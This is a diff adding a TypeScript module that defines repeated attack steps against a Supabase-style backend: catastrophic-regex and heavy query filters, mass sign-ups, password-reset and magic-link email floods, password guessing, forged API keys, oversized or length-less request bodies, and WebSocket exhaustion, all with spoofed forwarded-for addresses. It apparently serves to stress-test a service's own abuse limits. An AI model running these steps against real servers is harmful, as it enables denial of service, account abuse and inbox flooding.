@@ -1,0 +1,193 @@
+/** What is done to a server that stands open. Each attack is one step, repeated so often a second. */
+import { randomBytes, randomUUID } from 'node:crypto'
+import { WebSocket } from 'ws'
+
+export interface Target {
+  url: string
+  apikey: string
+  /** Of an account that the attacker opened. */
+  token: string
+}
+
+export interface Attack {
+  name: string
+  everyMs: number
+  /** What the server said; `cut` when it ended the line. */
+  step: (target: Target, turn: number) => Promise<string>
+}
+
+const inOneNetwork = (): string => `2001:db8:bad:1:${hex()}:${hex()}:${hex()}:${hex()}`
+const anyNetwork = (): string => `2001:db8:${hex()}:${hex()}::1`
+const hex = (): string => randomBytes(2).toString('hex')
+const a = (many: number): string => 'a'.repeat(many)
+
+/** From this address, as a proxy tells it: the last hop is believed. */
+async function ask(target: Target, path: string, init: RequestInit, from: string): Promise<string> {
+  const headers = new Headers(init.headers)
+  headers.set('apikey', target.apikey)
+  headers.set('x-forwarded-for', `9.9.9.9, ${from}`)
+  try {
+    const response = await fetch(target.url + path, { ...init, headers, signal: AbortSignal.timeout(20_000) })
+    await response.body?.cancel()
+    return String(response.status)
+  } catch (error) {
+    return error instanceof Error && error.name === 'TimeoutError' ? 'no answer in 20 s' : 'cut'
+  }
+}
+
+const json = (body: unknown): RequestInit => ({
+  method: 'POST',
+  headers: { 'content-type': 'application/json' },
+  body: JSON.stringify(body),
+})
+
+const slowFilters = [
+  `support_tickets?select=id&description=match.${encodeURIComponent('^(a+)(a+)b\\1\\2a$')}`,
+  `support_tickets?or=(subject.eq.x,not.and(description.imatch.${encodeURIComponent('^(a+)+$')}))`,
+  `support_tickets?description=ilike(any).{${Array.from({ length: 60 }, (_, n) => `*${a(60)}${n}*`).join(',')}}`,
+  `support_tickets?description=like.*${a(4_000)}b*`,
+  `support_tickets?select=${Array.from({ length: 100 }, (_, n) => `x${n}:description`).join(',')}`,
+  'support_tickets?select=id,p:profiles!support_tickets_user_id_fkey(t:support_tickets!support_tickets_user_id_fkey(description))',
+  'support_tickets?description=fts(english).aaaa',
+]
+
+const filters: Attack = {
+  name: 'slow filters',
+  everyMs: 100,
+  step: (target, turn) =>
+    ask(
+      target,
+      `/rest/v1/${slowFilters[turn % slowFilters.length]}`,
+      { headers: { authorization: `Bearer ${target.token}` } },
+      inOneNetwork(),
+    ),
+}
+
+/** 10,000 in five minutes. */
+const signUps: Attack = {
+  name: 'sign-ups from one /64',
+  everyMs: 30,
+  step: (target) =>
+    ask(
+      target,
+      '/auth/v1/signup',
+      json({ email: `${randomUUID()}@malo.example`, password: randomUUID() }),
+      inOneNetwork(),
+    ),
+}
+
+const letters: Attack = {
+  name: 'letters from everywhere',
+  everyMs: 50,
+  step: (target, turn) =>
+    ask(
+      target,
+      turn % 2 === 0 ? '/auth/v1/recover' : '/auth/v1/magiclink',
+      json({ email: 'admin@demo.mx' }),
+      anyNetwork(),
+    ),
+}
+
+const passwords: Attack = {
+  name: 'wrong passwords',
+  everyMs: 200,
+  step: (target, turn) =>
+    ask(
+      target,
+      '/auth/v1/token?grant_type=password',
+      json({ email: 'cliente@demo.mx', password: `mala-${turn}` }),
+      turn % 10 === 0 ? anyNetwork() : inOneNetwork(),
+    ),
+}
+
+const apiKeys: Attack = {
+  name: 'unknown API keys',
+  everyMs: 250,
+  step: (target) =>
+    ask(
+      target,
+      `/functions/v1/api/v1/invoices/${randomUUID()}`,
+      { headers: { authorization: `Bearer az_live_${randomUUID()}` } },
+      inOneNetwork(),
+    ),
+}
+
+const doors = [
+  '/auth/v1/signup',
+  '/rest/v1/rpc/sync_push',
+  '/rest/v1/rpc/track_events',
+  '/functions/v1/lead',
+  '/realtime/v1/api/broadcast',
+  '/storage/v1/object/avatars/x',
+]
+const sizes = [0, 1, 1_000, 64_000, 101_000, 1_000_000, 1_900_000, 2_100_000, 20_000_000]
+
+const bodies: Attack = {
+  name: 'bodies of every size',
+  everyMs: 250,
+  step: (target, turn) => {
+    const size = sizes[turn % sizes.length] ?? 0
+    const body = turn % 4 === 0 ? '['.repeat(size) : JSON.stringify({ a: a(size) })
+    const init = { method: 'POST', headers: { 'content-type': 'application/json' } }
+    const door = doors[turn % doors.length] ?? ''
+    return ask(target, door, turn % 3 === 0 ? { ...init, ...unnamed(body) } : { ...init, body }, anyNetwork())
+  },
+}
+
+/** Without a length, in pieces. */
+function unnamed(body: string): RequestInit & { duplex: 'half' } {
+  const bytes = new TextEncoder().encode(body)
+  let at = 0
+  return {
+    duplex: 'half',
+    body: new ReadableStream({
+      pull(controller) {
+        if (at >= bytes.length) return controller.close()
+        controller.enqueue(bytes.subarray(at, at + 65_536))
+        at += 65_536
+      },
+    }),
+  }
+}
+
+const held = new Set<WebSocket>()
+const mostHeld = 1_000
+
+/** As many as the server keeps, each with channels and presences as large as they go. */
+const sockets: Attack = {
+  name: 'sockets',
+  everyMs: 20,
+  step: async ({ url, apikey, token }, turn) => {
+    for (const line of [...held].slice(turn % 50, (turn % 50) + 5)) speak(line, token, turn)
+    if (held.size >= mostHeld) return 'enough are open'
+    const address = `${url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${apikey}&vsn=1.0.0`
+    const line = new WebSocket(address, { headers: { 'x-forwarded-for': `9.9.9.9, ${inOneNetwork()}` } })
+    held.add(line)
+    line.on('close', () => held.delete(line))
+    return new Promise((resolve) => {
+      line.on('open', () => resolve('open'))
+      line.on('error', (error) => resolve(/\b\d{3}\b/.exec(error.message)?.[0] ?? 'cut'))
+    })
+  },
+}
+
+function speak(line: WebSocket, token: string, turn: number): void {
+  if (line.readyState !== WebSocket.OPEN) return
+  const say = (topic: string, event: string, payload: object): void =>
+    line.send(JSON.stringify({ topic: `realtime:${topic}`, event, payload, ref: '1', join_ref: '1' }))
+  const topic = `room ${turn}`
+  const changes = Array.from({ length: 20 }, () => ({ event: '*', schema: '*', filter: `a=eq.${a(1_000)}` }))
+  say(topic, 'phx_join', { config: { presence: { enabled: true } } })
+  say(topic, 'phx_join', { config: { postgres_changes: changes } })
+  say(`ours ${turn}`, 'phx_join', {
+    config: { postgres_changes: [{ event: '*', schema: 'public', table: 'sync_spaces' }] },
+    access_token: token,
+  })
+  say(topic, 'presence', {
+    type: 'presence',
+    event: 'track',
+    payload: { big: a(turn % 20 === 0 ? 60_000 : 20_000) },
+  })
+}
+
+export const attacks: readonly Attack[] = [filters, signUps, letters, passwords, apiKeys, bodies, sockets]
